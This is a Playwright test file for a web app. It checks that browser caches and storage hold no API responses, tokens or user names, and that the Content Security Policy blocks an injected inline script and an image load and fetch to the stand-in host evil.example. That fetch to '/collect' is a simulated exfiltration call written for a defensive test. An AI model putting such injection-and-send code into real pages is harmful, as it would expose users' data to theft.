import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { beginLog, listOf, save, tileOf } from './support/log-a-workshop.ts'
import { becomesReadyForOffline, home, people, phone, someone } from './support/people.ts'

/** Every answer in the caches that all pages of this origin share, with what it says. */
const readCaches = (page: Page) =>
  page.evaluate(async () => {
    const found: { path: string; text: string }[] = []
    for (const name of await caches.keys()) {
      const cache = await caches.open(name)
      for (const request of await cache.keys()) {
        const answer = await cache.match(request)
        const isText = /json|text|javascript/.test(answer?.headers.get('content-type') ?? '')
        found.push({
          path: new URL(request.url).pathname,
          text: isText ? ((await answer?.text()) ?? '') : '',
        })
      }
    }
    return found
  })

describe('what a browser keeps beside the person’s own database', () => {
  it('is the app and its configuration: no answer of the API, no token, nobody’s name', async () => {
    const { page } = await someone('volunteer', { ...phone, fresh: true })
    const title = `Slime that nobody caches ${Date.now()}`
    await becomesReadyForOffline(page)
    await beginLog(page, /^Workshop/, title)
    await save(page, 'Save and finish later')
    await page.goto(listOf(title))
    await tileOf(page, title).locator('[data-kind="sent"]').waitFor({ timeout: 90_000 })
    for (const path of ['/', '/Toronto/Workshops', '/unsent']) {
      await page.goto(home + path)
      await page.getByRole('heading', { level: 1 }).waitFor()
    }
    const kept = await readCaches(page)
    expect(kept.length).toBeGreaterThan(5)
    expect(kept.map(({ path }) => path).filter((path) => /^\/(api|oidc|health)\b/.test(path))).toEqual([])
    expect(kept.filter(({ text }) => text.includes(title))).toEqual([])
    expect(kept.filter(({ text }) => text.includes(people.volunteer))).toEqual([])
    const stores = await page.evaluate(() =>
      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
    )
    expect(stores).not.toMatch(/eyJ|access_token|refresh_token/)
  })
})

describe('a page that something foreign got into', () => {
  it('runs no inline script, loads nothing from elsewhere, and the violation fails the journey', async () => {
    const { page, device } = await someone('volunteer', { fresh: true })
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script')
      script.textContent = 'window.foreign = true'
      document.head.append(script)
      const image = document.createElement('img')
      const failed = new Promise((resolve) => {
        image.onerror = resolve
      })
      image.src = 'https://evil.example/pixel.png'
      document.body.append(image)
      await failed
      const sent = await fetch('https://evil.example/collect').then(
        () => 'sent',
        () => 'stopped',
      )
      return { foreign: 'foreign' in window, sent }
    })
    expect(ran).toEqual({ foreign: false, sent: 'stopped' })
    await expect.poll(() => device.complaints().length).toBeGreaterThanOrEqual(3)
    const violations = device.complaints().splice(0).join('\n')
    for (const directive of ['script-src', 'img-src', 'connect-src']) expect(violations).toContain(directive)
  })
})
